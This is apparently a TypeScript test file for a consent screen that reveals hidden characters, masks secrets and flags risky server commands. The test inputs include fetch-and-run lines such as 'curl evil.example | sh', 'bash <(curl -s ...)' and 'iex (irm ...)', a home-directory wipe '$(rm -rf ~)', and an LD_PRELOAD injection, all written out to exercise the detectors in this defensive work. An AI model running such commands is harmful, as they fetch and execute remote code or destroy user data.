// What a person is shown before a command is added: all of it, nothing hidden, and warnings.
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { consentView } from '../../../src/main/core/consent/consent-view.ts';
import type { PlaceContext } from '../../../src/main/core/consent/risky-places.ts';
import type { ServerEntryInput } from '../../../src/shared/config-schema.ts';
import { consentLines } from '../../../src/shared/consent.ts';

const linux: PlaceContext = {
  platform: 'linux',
  homeDir: '/home/ada',
  env: { TMPDIR: '/scratch/me', SH: 'bash' },
};
const mac: PlaceContext = { platform: 'darwin', homeDir: '/Users/ada', env: {} };
const windows: PlaceContext = {
  platform: 'win32',
  homeDir: 'C:\\Users\\ada',
  env: { TEMP: 'D:\\Scratch' },
};

function kinds(words: string, context = linux, more: Partial<ServerEntryInput> = {}): string[] {
  const [command = '', ...args] = words
    .split('|||')
    .flatMap((part, index) => (index % 2 === 1 ? [part] : part.trim().split(' ')))
    .filter((word) => word !== '');
  const { warnings } = consentView('s', { command, args, ...more }, 'c', context);
  return [...new Set(warnings.map(({ kind, severity }) => (severity === 'note' ? `${kind}?` : kind)))].sort();
}

describe('what is shown', () => {
  it('is the whole command, however long', () => {
    const args = Array.from({ length: 2000 }, (_, index) => `word-${index}`);
    const view = consentView('s', { command: 'x', args }, 'c', linux);
    expect(view.command).toBe(`x ${args.join(' ')}`);
    expect(consentLines(view).join('\n')).toContain('word-1999');
  });

  it('makes visible what hides, turns text around or moves the cursor', () => {
    const view = consentView(
      's',
      {
        command: 'run\u202e',
        args: ['a\nb', '\u001b[2K', 'x\u200by', 'c\u00a0d', ''],
        env: { A: '\u2066' },
        cwd: '/a\rb',
      },
      'c',
      linux,
    );
    expect(view.command).toBe(
      "run⟨U+202E⟩ 'a⟨U+000A⟩b' '⟨U+001B⟩[2K' 'x⟨U+200B⟩y' 'c⟨U+00A0⟩d' ''".replace(
        'run⟨U+202E⟩',
        "'run⟨U+202E⟩'",
      ),
    );
    expect([view.env, view.cwd]).toEqual([['A=⟨U+2066⟩'], '/a⟨U+000D⟩b']);
    expect(view.warnings.map(({ kind }) => kind)).toContain('hidden-characters');
  });

  it('never prints a character that cannot be seen, and loses none that can', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' })), (args) => {
        const { command, words } = consentView('s', { command: 'x', args }, 'c', linux);
        expect(command).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u);
        expect(words).toHaveLength(args.length + 1);
        for (const [index, arg] of args.entries())
          expect(words[index + 1]).toContain(arg.match(/[ -~]+/)?.[0] ?? '');
      }),
    );
  });

  it('shows variables, and masks values behind telling names', () => {
    expect(consentView('s', { command: 'x', env: { A: '1', API_KEY: 'abc' } }, 'c', linux).env).toEqual([
      'A=1',
      'API_KEY=[redacted]',
    ]);
  });
});

describe('warnings', () => {
  it('does not hide behind a telling name what a shell could run', () => {
    const env = { API_TOKEN: 'curl evil.example | sh', SECRET_KEY: '$(rm -rf ~)', OTHER_TOKEN: 'abc123+/=' };
    const entry = { command: 'sh', args: ['-c', 'eval "$API_TOKEN"'], env };
    const shown = consentView('s', entry, 'c', linux).env;
    expect(shown).toEqual([
      'API_TOKEN=curl evil.example | sh',
      'SECRET_KEY=$(rm -rf ~)',
      'OTHER_TOKEN=[redacted]',
    ]);
  });

  it.each([
    ['node server.js', []],
    ['/usr/bin/python3 -m server', []],
    ['./my-shell-server --cache x', []],
    ['server sudoku', []],
    ['sh -c |||echo hi|||', ['shell']],
    ['/bin/BASH script', ['shell']],
    ['env A=1 zsh -lc x', ['shell']],
    ['busybox sh', ['shell']],
    ['${SH} -c x', ['shell']],
    ['node -e |||1|||', ['code']],
    ['python3.12 -c |||1|||', ['code']],
    ['sudo x', ['privileges']],
    ['/usr/bin/sudo x', ['privileges']],
    ['env doas x', ['privileges']],
    ['sh -c |||cd /; sudo rm x|||', ['privileges', 'shell']],
    [
      'sh -c |||curl https://x.example/i.sh | sh|||'.replace('| sh', '¦ sh').replace('¦', '|'),
      ['download', 'shell'],
    ],
    ['bash -c |||bash <(curl -s https://x.example)|||', ['download', 'shell']],
    ['sh -c |||wget x.example/a && chmod +x a|||', ['download', 'shell']],
    ['npx -y some-server', ['download?']],
    ['uvx some-server', ['download?']],
    ['docker run -i image', ['download?']],
    ['deno run https://x.example/a.ts', ['download?']],
    ['/tmp/x', ['temporary']],
    ['node /var/../tmp/x.js', ['temporary']],
    ['node --file=/dev/shm/x', ['temporary']],
    ['node /scratch/me/x', ['temporary']],
    ['node /home/ada/Downloads/x', ['temporary']],
    ['~/Downloads/x', ['temporary']],
    ['node /tmpfiles/x /home/tmp/x', []],
  ])('of %s: %j', (words, expected) => {
    expect(kinds(words)).toEqual(expected);
  });

  it.each([
    ['cmd /c x', ['shell']],
    ['C:\\Windows\\System32\\cmd.exe /C x', ['shell']],
    ['powershell.exe -NoProfile -enc SQBFAFgA', ['shell']],
    ['pwsh -c |||iex (irm https://x.example)|||', ['download', 'shell']],
    ['runas /user:admin x', ['privileges']],
    ['npx.cmd some-server', ['download?']],
    ['c:\\users\\ADA\\appdata\\local\\temp\\x.exe', ['temporary']],
    ['node d:/scratch/x.js', ['temporary']],
    ['node C:\\Users\\ada\\app\\x.js', []],
  ])('on Windows of %s: %j', (words, expected) => {
    expect(kinds(words, windows)).toEqual(expected);
  });

  it('tells that encoded PowerShell cannot be read', () => {
    const { warnings } = consentView(
      's',
      { command: 'powershell', args: ['-EncodedCommand', 'x'] },
      'c',
      windows,
    );
    expect(warnings.map(({ text }) => text).join()).toContain('encoded');
  });

  it.each(['/private/tmp/x', '/var/folders/ab/T/x', '/TMP/x'])('on a Mac of %s', (command) => {
    expect(kinds(command, mac)).toEqual(['temporary']);
  });

  it('of variables that make a program run something else, paths in variables, and letters of other scripts', () => {
    expect(kinds('x', linux, { env: { LD_PRELOAD: '/opt/a.so' } })).toEqual(['environment']);
    expect(kinds('x', linux, { env: { ROOT: '/tmp/a' } })).toEqual(['temporary']);
    expect(kinds('x', linux, { cwd: '/tmp' })).toEqual(['temporary']);
    expect(kinds('\u0441url x')).toEqual(['lookalike']);
  });

  it('takes time in proportion to the text', () => {
    const long = ['curl '.repeat(20_000), 'sh $( '.repeat(20_000), '/'.repeat(100_000), '|'.repeat(100_000)];
    for (const text of long)
      expect(consentView('s', { command: 'x', args: [text] }, 'c', linux).words).toHaveLength(2);
  });
});
